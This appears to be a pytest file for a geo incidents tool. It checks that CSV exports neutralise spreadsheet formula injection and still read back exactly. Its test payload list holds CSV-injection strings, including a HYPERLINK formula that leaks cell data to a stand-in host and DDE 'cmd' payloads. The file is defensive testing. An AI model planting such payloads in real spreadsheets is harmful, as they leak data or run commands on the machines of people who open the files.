"""Every CSV we write neutralises formula cells (OWASP CSV injection), and reads back exactly."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from geo.export.files import export
from geo.incidents.cells import FORMULA_START, neutralize, restore
from geo.incidents.schema import incidents_frame
from geo.resolve.geocoding import GeocodeCache, QueryParams, normalize_query
from geo.store.layers import read_layers

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
    "plain text",
    "a = b",
    "'quoted but harmless",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralize_and_restore(text: str) -> None:
    safe = neutralize(text)
    assert not safe.startswith(FORMULA_START)
    assert restore(safe) == text
    if not text.lstrip("'").startswith(FORMULA_START):
        assert safe == text  # harmless text is left alone


def hostile_incidents():
    rows = [{"event_date": date(2024, 1, 5), "event_type": "drone attack", "place_name": p,
             "actor": p, "target": p, "notes": p, "lat": 33.5, "lon": -4.25,
             "sources": [{"url": "https://example.org/a", "publisher": p, "quote": p,
                          "file": p}]}
            for p in PAYLOADS]
    return incidents_frame(rows)


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_incidents_csv_has_no_formula_cell_and_reads_back(tmp_path: Path) -> None:
    incidents = hostile_incidents()
    path = export(incidents, tmp_path / "incidents.csv")
    rows = cells(path)
    header = rows[0]
    bad = [(header[i], c) for row in rows[1:] for i, c in enumerate(row)
           if c.startswith(FORMULA_START) and not number(c)]
    assert bad == []
    lon = header.index("lon")
    assert {row[lon] for row in rows[1:]} == {"-4.25"}  # numbers stay numbers
    back = read_layers(path).incidents
    assert sorted(back["place_name"]) == sorted(PAYLOADS)
    assert sorted(back["notes"]) == sorted(PAYLOADS)
    assert sorted(s[0]["publisher"] for s in back["sources"]) == sorted(PAYLOADS)


def test_geocoder_cache_csv_export_has_no_formula_cell(tmp_path: Path) -> None:
    with GeocodeCache(tmp_path / "cache.sqlite") as db:
        for text in PAYLOADS:
            db.put("nominatim", "http://127.0.0.1:1", text, QueryParams.of(None, None, False, 5),
                   [{"display_name": text}], 1_700_000_000.0)
        written = db.export(tmp_path / "cache.csv")
    rows = cells(tmp_path / "cache.csv")
    assert written == len(rows) - 1 >= len(PAYLOADS) - 2  # "\t=1+1" and "\r=1+1" are one key
    assert [c for row in rows for c in row if c.startswith(FORMULA_START)] == []
    query = rows[0].index("query")
    assert {restore(row[query]) for row in rows[1:]} == {normalize_query(p) for p in PAYLOADS}
